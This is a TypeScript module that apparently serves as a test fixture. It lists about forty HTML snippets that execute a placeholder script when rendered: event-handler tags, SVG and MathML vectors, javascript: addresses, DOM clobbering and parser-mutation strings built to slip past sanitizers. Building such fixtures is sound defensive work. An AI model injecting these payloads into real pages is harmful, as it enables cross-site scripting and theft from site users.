const svg = (inner: string) => `<svg width="9" height="9">${inner}</svg>`;

/** HTML that runs `CODE` as soon as it is drawn, where a page lets it. */
export const RUNNING_HTML: Readonly<Record<string, string>> = {
  script: '<script>CODE</script>',
  'script-module': '<script type="module">CODE</script>',
  'script-data': '<script src="data:text/javascript,CODE"></script>',
  'img-error': '<img src="data:," onerror="CODE">',
  'img-load': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="CODE">',
  'img-error-slash': '<img/src="data:,"/onerror="CODE"/>',
  'img-error-case': '<IMG SRC="data:," ONERROR="CODE">',
  'video-error': '<video><source src="data:," onerror="CODE"></video>',
  'audio-error': '<audio src="data:," onerror="CODE"></audio>',
  'input-focus': '<input autofocus onfocus="CODE">',
  'button-focus': '<button autofocus onfocus="CODE">x</button>',
  'details-toggle': '<details open ontoggle="CODE">x</details>',
  'animation-start':
    '<style>@keyframes k{to{color:red}}</style><p style="animation:k 1ms" onanimationstart="CODE">x</p>',
  transition:
    '<style>@starting-style{.t{opacity:0}}.t{transition:opacity 1ms}</style><p class="t" ontransitionend="CODE">x</p>',
  'scroll-snap':
    '<div onscrollsnapchange="CODE" style="overflow:scroll;height:9px;scroll-snap-type:y mandatory"><p style="scroll-snap-align:start">x</p></div>',
  'body-load': '<body onload="CODE">x</body>',
  'iframe-srcdoc': '<iframe srcdoc="<script>parent.eval(`CODE`)</script>"></iframe>',
  'iframe-script-address': '<iframe src="javascript:parent.eval(`CODE`)"></iframe>',
  'object-data': '<object data="data:text/html,<script>parent.eval(`CODE`)</script>"></object>',
  'embed-script-address': '<embed src="javascript:CODE">',
  'svg-load': '<svg onload="CODE"></svg>',
  'svg-script': svg('<script>CODE</script>'),
  'svg-script-href': svg('<script href="data:text/javascript,CODE"/>'),
  'svg-animate-begin': svg('<animate attributeName="x" dur="1s" onbegin="CODE"/>'),
  'svg-set-handler': svg('<rect><set attributeName="onclick" to="CODE" onbegin="CODE"/></rect>'),
  'svg-image-error': svg('<image href="data:," onerror="CODE"/>'),
  'svg-html-inside': svg('<foreignObject><img src="data:," onerror="CODE"></foreignObject>'),
  'svg-use-data': svg(
    '<use href="data:image/svg+xml,<svg id=a xmlns=http://www.w3.org/2000/svg><script>CODE</script></svg>#a"/>',
  ),
  'math-html-inside':
    '<math><annotation-xml encoding="text/html"><img src="data:," onerror="CODE"></annotation-xml></math>',
  'shadow-root':
    '<div><template shadowrootmode="open"><script>CODE</script><img src="data:," onerror="CODE"></template></div>',
  'custom-element': '<x-y onclick="CODE" is="script">x</x-y><script is="x-y">CODE</script>',
  refresh: '<meta http-equiv="refresh" content="0;javascript:CODE">',
  'link-load': '<link rel="stylesheet" href="data:text/css," onload="CODE">',
  'style-load': '<style onload="CODE">x{}</style>',
  'base-script': '<base href="javascript:/a/-CODE//">',
  'mutation-style': '<svg></p><style><g title="</style><img src=data:, onerror=CODE>">',
  'mutation-math':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:, onerror=CODE&gt;">',
  'mutation-form': '<form><math><mtext></form><form><mglyph><style></math><img src=data:, onerror=CODE>',
  'mutation-noscript': '<noscript><p title="</noscript><img src=data:, onerror=CODE>">',
  'mutation-comment': '<!--><img src=data:, onerror=CODE>-->',
  'mutation-select':
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=data:, onerror=CODE>"></select>',
  'mutation-xmp': '<xmp><p title="</xmp><img src=data:, onerror=CODE>">',
  clobbered:
    '<form id="x" onfocus="CODE" tabindex="1" autofocus><input name="attributes"><input name="removeAttribute"></form>',
};
